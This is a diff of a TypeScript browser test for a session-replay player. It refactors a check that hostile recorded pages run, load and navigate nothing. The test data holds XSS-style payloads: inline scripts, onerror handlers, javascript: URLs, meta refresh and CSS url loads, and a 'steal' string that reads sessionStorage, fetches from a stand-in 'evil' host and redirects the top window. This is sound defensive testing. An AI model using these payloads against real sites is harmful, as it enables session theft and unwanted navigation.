@@ -8,22 +8,10 @@ import { clicked, element, pageShown, sendSession } from './recorded-session.ts'
 import { openPicture, savePicture } from './saved-picture.ts'
 import { minute, recordedPage, slider, visitToShop, apiOf } from './recorded-shop.ts'
 
-test('a hostile recording runs nothing, loads nothing and navigates nowhere, nor does a picture of it', async ({
-  browser,
-  page,
-  service,
-  tenant,
-}) => {
-  const hits: string[] = []
-  const sink = createServer((request, response) => {
-    hits.push(request.url ?? '')
-    response.end()
-  })
-  await new Promise<void>((listening) => sink.listen(0, '127.0.0.1', listening))
-  const evil = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`
-  const steal = `top.stolen = top.sessionStorage.length; fetch('${evil}/run'); top.location = '${evil}/top'`
+/** Returns nodes whose attributes run the script `steal` or load from the address `evil`. */
+function hostileNodes(evil: string, steal: string) {
   const isolated = { type: 'text/html', src: `javascript:${steal}` }
-  const hostile = () => [
+  return [
     element('script', {}, steal),
     element('script', { src: `${evil}/script.js` }),
     element('img', { src: `${evil}/image.png`, srcset: `${evil}/set.png 2x`, onerror: steal, onload: steal }),
@@ -69,7 +57,10 @@ test('a hostile recording runs nothing, loads nothing and navigates nowhere, nor
       `list-style: url("${evil}/a\nb.png"); background: url(${evil}/open.png`,
     ].map((style) => element('p', { style })),
   ]
-  const head = [
+}
+
+function hostileHead(evil: string) {
+  return [
     element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
     element('base', { href: evil }),
     element('link', { rel: 'stylesheet', href: `${evil}/sheet.css` }),
@@ -85,17 +76,20 @@ test('a hostile recording runs nothing, loads nothing and navigates nowhere, nor
     ),
     element('style', { _cssText: `body { font-family: x; background: url(${evil}/css.png) }` }),
   ]
-  const start = Date.now() - 10 * minute
+}
+
+/** Returns the events of a recording that tries to load from `evil` and to run `steal`, at once and later. */
+function hostileEvents(start: number, evil: string, steal: string) {
   const { Mutation, StyleSheetRule, StyleDeclaration, AdoptedStyleSheet } = IncrementalSource
   const [sheet, image, frame] = [
     element('style', { _cssText: 'p { margin: 0 }' }),
     element('img'),
     element('iframe'),
   ]
-  const body = element('div', {}, sheet, image, frame, ...hostile())
-  const adds = hostile().map((node) => ({ parentId: body.id, nextId: null, node }))
-  const events = [
-    ...pageShown(start, { head, body: [body] }),
+  const body = element('div', {}, sheet, image, frame, ...hostileNodes(evil, steal))
+  const adds = hostileNodes(evil, steal).map((node) => ({ parentId: body.id, nextId: null, node }))
+  return [
+    ...pageShown(start, { head: hostileHead(evil), body: [body] }),
     {
       type: EventType.IncrementalSnapshot,
       timestamp: start + 500,
@@ -144,6 +138,23 @@ test('a hostile recording runs nothing, loads nothing and navigates nowhere, nor
     })),
     clicked(start + 3_000, body.id),
   ]
+}
+
+test('a hostile recording runs nothing, loads nothing and navigates nowhere, nor does a picture of it', async ({
+  browser,
+  page,
+  service,
+  tenant,
+}) => {
+  const hits: string[] = []
+  const sink = createServer((request, response) => {
+    hits.push(request.url ?? '')
+    response.end()
+  })
+  await new Promise<void>((listening) => sink.listen(0, '127.0.0.1', listening))
+  const evil = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`
+  const steal = `top.stolen = top.sessionStorage.length; fetch('${evil}/run'); top.location = '${evil}/top'`
+  const events = hostileEvents(Date.now() - 10 * minute, evil, steal)
   const external: string[] = []
   const note = (request: Request) => {
     // The player's policy blocked the request.
